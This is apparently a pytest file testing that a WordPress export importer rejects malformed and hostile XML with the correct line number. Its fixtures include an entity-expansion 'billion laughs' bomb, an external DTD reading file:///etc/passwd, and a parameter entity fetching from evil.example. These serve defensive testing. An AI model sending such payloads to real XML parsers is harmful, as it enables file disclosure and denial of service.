"""Broken and hostile files are refused with their line, whatever was read before."""

import gzip
from pathlib import Path

import pytest

from parley.importers.problems import ImportProblem
from parley.importers.records import Notes
from parley.importers.wordpress import WordpressExport, wordpress_read
from tests.importers import wxr

GOOD = wxr.export(wxr.item(1), wxr.item(2, content__encoded="Größe 🦭"))
BOMB = """<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY a "ha">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
]>
<rss><channel><title>&c;</title></channel></rss>"""
OUTSIDE = '<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "file:///etc/passwd">\n<rss><channel/></rss>'
PARAMETER = (
    '<?xml version="1.0"?>\n\n<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>\n<rss/>'
)


@pytest.mark.parametrize(
    ("data", "line", "words"),
    [
        (b"", None, "empty"),
        (b" \n\n", None, "empty"),
        (b"PK\x03\x04....", None, "ZIP"),
        (gzip.compress(GOOD.encode(), mtime=0), None, "gzip"),  # else the test has another name each second
        (BOMB.encode(), 2, "document type"),
        (OUTSIDE.encode(), 2, "document type"),
        (PARAMETER.encode(), 3, "document type"),
        (GOOD.encode()[:-30], 7, "cut off"),
        (GOOD.encode()[: GOOD.index("Größe")], 7, "cut off"),
        (GOOD.encode()[:100], 2, "cut off"),
        (GOOD.encode("latin-1", errors="replace"), 7, "broken"),
        (GOOD.replace("UTF-8", "klingon").encode(), 1, "encoding"),
        (GOOD.replace("UTF-8", "utf-16").encode(), 1, "broken"),
        (GOOD.replace("UTF-8", "utf-7").encode(), 1, "encoding"),
        (b"`" + GOOD.encode(), 1, "broken"),
        (GOOD.replace("Größe", "a\x0bb").encode(), 7, "broken"),
        (GOOD.replace("Größe", "&nbsp;").replace("&amp;nbsp", "&nbsp").encode(), 7, "broken"),
        ((GOOD + "<rss/>").encode(), 8, "broken"),
        (b"not xml at all", 1, "broken"),
        (b"<html>\n<body><p><i>x</i></p></body></html>", 2, "no WordPress export"),
        (b"<rss><channel><title>A feed</title><item><title>x</title></item></channel></rss>", 1, "a feed"),
        (b"<rss><channel><title>A feed</title></channel></rss>", None, "no WordPress export"),
        (wxr.export(version="3.0").encode(), 5, "version"),
        (("<rss><channel>" + "<a>" * 50 + "</a>" * 50 + "</channel></rss>").encode(), 1, "nested"),
    ],
)
def test_what_is_no_export_is_refused_with_its_line(
    tmp_path: Path, data: bytes, line: int | None, words: str
) -> None:
    with pytest.raises(ImportProblem) as caught:
        wxr.read(tmp_path / "e.xml", data)
    assert words in str(caught.value)
    assert caught.value.line == line


@pytest.mark.parametrize(
    "data",
    [
        GOOD.encode(),
        b"\xef\xbb\xbf" + GOOD.encode(),
        b"\r\n\n " + GOOD.encode(),
        GOOD.replace("UTF-8", "UTF-16").encode("utf-16"),
        GOOD.replace("UTF-8", "windows-1252").replace("🦭", "").encode("cp1252"),
    ],
)
def test_what_can_be_read_is(tmp_path: Path, data: bytes) -> None:
    articles = wxr.read(tmp_path / "e.xml", data)
    assert [article.headline for article in articles] == ["Post 1", "Post 2"]
    assert "Größe" in repr(articles[1].body)


def test_lines_are_counted_from_the_file_s_first(tmp_path: Path) -> None:
    with pytest.raises(ImportProblem) as caught:
        wxr.read(tmp_path / "e.xml", b"\n\n\n" + GOOD.encode()[:-30])
    assert caught.value.line == 10


def test_an_entry_too_large_for_memory_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("parley.importers.xml_stream.ELEMENT_MAX", 10_000)
    with pytest.raises(ImportProblem, match="larger") as caught:
        wxr.read(tmp_path / "e.xml", wxr.export(wxr.item(1), wxr.item(2, content__encoded="x" * 10_001)))
    assert caught.value.line == 7


def test_a_missing_file_is_told(tmp_path: Path) -> None:
    with pytest.raises(ImportProblem, match="can't be read"):
        list(wordpress_read(tmp_path / "none.xml", export=WordpressExport(), notes=Notes()))
